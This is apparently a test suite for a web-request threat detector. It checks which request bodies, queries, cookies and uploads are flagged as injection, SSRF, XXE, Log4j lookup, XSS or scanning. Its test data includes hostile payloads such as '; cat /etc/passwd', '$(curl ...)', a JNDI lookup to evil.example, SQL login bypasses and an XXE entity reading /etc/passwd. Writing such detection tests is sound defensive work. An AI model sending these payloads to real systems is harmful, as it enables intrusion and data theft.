import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { contentThreats } from './content-threats.ts';
import { type ExampleCall, exampleExchange, SOME_HEADERS } from './example-call.test.ts';

/** What rules weigh beside the text: the field, the operation, and how the text came. */
const typesOf = (example: ExampleCall): readonly string[] => [
  ...new Set(contentThreats(exampleExchange(example)).map(({ type }) => type)),
];
const sent = (target: string, document: unknown): ExampleCall => ({
  method: 'POST',
  target,
  headers: { ...SOME_HEADERS, 'content-type': 'application/json' },
  body: JSON.stringify(document),
});

describe('operations that keep texts of a language', () => {
  it('settings, jobs and records hold commands, addresses and statements', () => {
    for (const example of [
      sent('/v1/kv/billing', { host: '$(hostname -f)' }),
      sent('/v1/apps/7/env', { key: 'A', value: '`hostname`.shop.example' }),
      sent('/v1/builds', { steps: [{ env: { HERE: '$(pwd)' } }] }),
      sent('/v1/traces', { attributes: [{ value: { stringValue: 'http://169.254.169.254/latest/' } }] }),
      sent('/api/7/store', { request: { url: 'http://127.0.0.1:8000/admin' } }),
      sent('/tagmanager/v2/tags', { value: '<script>window.layer = window.layer || [];</script>' }),
    ])
      assert.deepEqual(typesOf(example), [], example.body ?? '');
  });
  it('the same elsewhere, in other fields, or with what attacks do, is one', () => {
    assert.deepEqual(typesOf(sent('/v1/profile', { host: 'x$(hostname -f)' })), ['command-injection']);
    assert.deepEqual(typesOf(sent('/v1/jobs', { label: 'x$(id -u)' })), ['command-injection']);
    assert.deepEqual(typesOf(sent('/v1/imports', { value: 'http://169.254.169.254/latest/' })), ['ssrf']);
    assert.deepEqual(typesOf(sent('/v1/logs', { message: '${jndi:ldap://evil.example/a}' })), [
      'log4j-lookup',
    ]);
    assert.deepEqual(typesOf(sent('/tagmanager/v2/tags', { value: '<script>alert(1)</script>' })), ['xss']);
    assert.deepEqual(typesOf({ target: '/v1/kv?a=x$(id%20-u)' }), ['command-injection']);
    assert.deepEqual(typesOf(sent('/v1/kv/a', { host: 'x; cat /etc/passwd' })), ['command-injection']);
    assert.deepEqual(typesOf(sent('/v1/kv/a', { host: '$(curl http://a.shop.example)' })), [
      'command-injection',
    ]);
  });
  it('an answer that shows its effect makes it one everywhere', () => {
    const stored = sent('/v1/kv/a', { host: '$(id -u)' });
    assert.deepEqual(typesOf(stored), []);
    assert.deepEqual(typesOf({ ...stored, responseBody: 'uid=0(root) gid=0(root)' }), ['command-injection']);
  });
});

describe('values that hold values', () => {
  it('JSON and queries are read by their members', () => {
    for (const document of [
      { rule: '{"or":[{"==":[{"var":"name"},"x"]},{"<":[1,2]}]}' },
      { params: "query=d'or&facets=%5B%22brand%22%5D&filters=brand%3D'Null'%20%26%26%20price%3C5" },
    ])
      assert.deepEqual(typesOf(sent('/v1/rules', document)), [], JSON.stringify(document));
    for (const [document, type] of [
      [{ rule: '{"name":"x\' OR 1=1--"}' }, 'sql-injection'],
      [{ rule: '{"${jndi:ldap://evil.example/a}":1}' }, 'log4j-lookup'],
      [{ params: 'page=1&query=%3Cscript%3Ealert(1)%3C/script%3E' }, 'xss'],
    ] as const)
      assert.ok(typesOf(sent('/v1/rules', document)).includes(type), JSON.stringify(document));
  });
  it('a filter may ask for a prefix, and not of a secret', () => {
    const filter = (value: unknown) => ({
      target: `/v1/a?query=${encodeURIComponent(JSON.stringify(value))}`,
    });
    assert.deepEqual(typesOf(filter({ name: { $regex: '^oak' } })), []);
    assert.deepEqual(typesOf(filter({ password: { $regex: '^oak' } })), ['nosql-injection']);
    assert.deepEqual(typesOf(filter({ name: { $regex: '.*' } })), ['nosql-injection']);
  });
});

describe('texts of a body', () => {
  it('speak of code, and hold whole statements and programs', () => {
    for (const text of [
      'Does the `<script>` tag of `cart.html` block, or is it `defer`?',
      "{{ config(x='y') }}\nselect * from {{ ref('orders') }} where at > (select max(at) from {{ this }})",
      "def test():\n    assert render('{{ 1 + 1 }}') == '2'\n    assert quote('a')\n",
      'console.log(`${1+1}`);',
    ])
      assert.deepEqual(typesOf(sent('/v1/notes', { text })), [], text);
  });
  it('and attacks are no less attacks there', () => {
    for (const [text, type] of [
      ['look: <script>alert(`1`)</script>', 'xss'],
      ['{{ 7 * 7 }}', 'template-injection'],
      ["x' union select 1, 2 from users --", 'sql-injection'],
    ] as const)
      assert.ok(typesOf(sent('/v1/notes', { text })).includes(type), text);
  });
});

describe('secrets', () => {
  it('generated ones hold every sign', () => {
    for (const password of ["k<Gz}M*0&;S6jQ[&{Qn!'#@z", 'X|w<q7f;O9P|id', '7`w`TdU6DH'])
      assert.deepEqual(typesOf(sent('/login', { username: 'a', password })), [], password);
  });
  it('and may still be attacks', () => {
    for (const password of ["x' OR '1'='1", "admin'--", "x'#"])
      assert.deepEqual(typesOf(sent('/login', { username: 'a', password })), ['sql-injection'], password);
    assert.deepEqual(typesOf(sent('/login', { password: 'x; cat /etc/passwd' })), ['command-injection']);
  });
});

describe('addresses', () => {
  it('that a server loads, or that no machine is called by', () => {
    for (const [name, value] of [
      ['feedUrl', 'http://192.168.4.9:9090/metrics'],
      ['source', 'https://open.example/redirect?to=http://169.254.169.254/a'],
      ['callbackUrl', 'http://0.0.0.0:8101/'],
      ['endpoint', 'http://[fe80::1]/a'],
      ['uri', 'unix:/var/run/docker.sock:/info'],
      ['link', 'file://localhost/etc/hosts'],
      ['uri', 'smb://127.0.0.1/share'],
    ] as const)
      assert.ok(typesOf(sent('/v1/items', { [name]: value })).includes('ssrf'), value);
  });
  it('that people keep', () => {
    for (const [name, value] of [
      ['deviceUrl', 'http://192.168.4.9/status'],
      ['source', 'https://open.example/redirect?to=https://www.shop.example/a'],
      ['redirectUri', 'http://0.0.0.0:8101/'],
      ['page', 'file:///C:/Users/Ann/Desktop/a.html'],
      ['share', 'smb://nas.shop.example/a'],
      ['note', 'unix:/var/run/docker.sock'],
    ] as const)
      assert.deepEqual(typesOf(sent('/v1/items', { [name]: value })), [], value);
  });
});

describe('files', () => {
  const upload = (value: string): ExampleCall => ({
    method: 'POST',
    headers: { ...SOME_HEADERS, 'content-type': 'multipart/form-data; boundary=b' },
    body: `--b\r\nContent-Disposition: form-data; name="f"; filename="a.svg"\r\n\r\n${value}\r\n--b--\r\n`,
  });

  it('that are uploaded are read for their entities', () => {
    assert.deepEqual(typesOf(upload('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')), [
      'xxe',
    ]);
    assert.deepEqual(typesOf(upload('<!DOCTYPE svg><svg><path d="M0 0"/></svg>')), []);
  });
  it('of a project are no probes, unless nothing serves them', () => {
    const target = '/v4/projects/7/repository/files/.gitlab-ci.yml';
    assert.deepEqual(typesOf({ method: 'PUT', target }), []);
    assert.deepEqual(typesOf({ target, status: 404 }), ['scanner']);
    assert.deepEqual(typesOf({ target: '/.gitlab-ci.yml' }), ['scanner']);
    assert.deepEqual(typesOf({ target: '/old/hjfk.sql.gz', status: 404 }), ['scanner']);
    assert.deepEqual(typesOf({ target: '/v1/exports/orders.sql.gz' }), []);
  });
  it('named in a cookie are encoded by everyone, and twice by nobody', () => {
    const cookie = (value: string): ExampleCall => ({
      headers: { ...SOME_HEADERS, cookie: `back=${value}` },
    });
    assert.deepEqual(typesOf(cookie('%2Fa%2F..%2Fb')), []);
    assert.deepEqual(typesOf(cookie('%2Fa%2F%2e%2e%2Fb')), ['path-traversal']);
  });
});
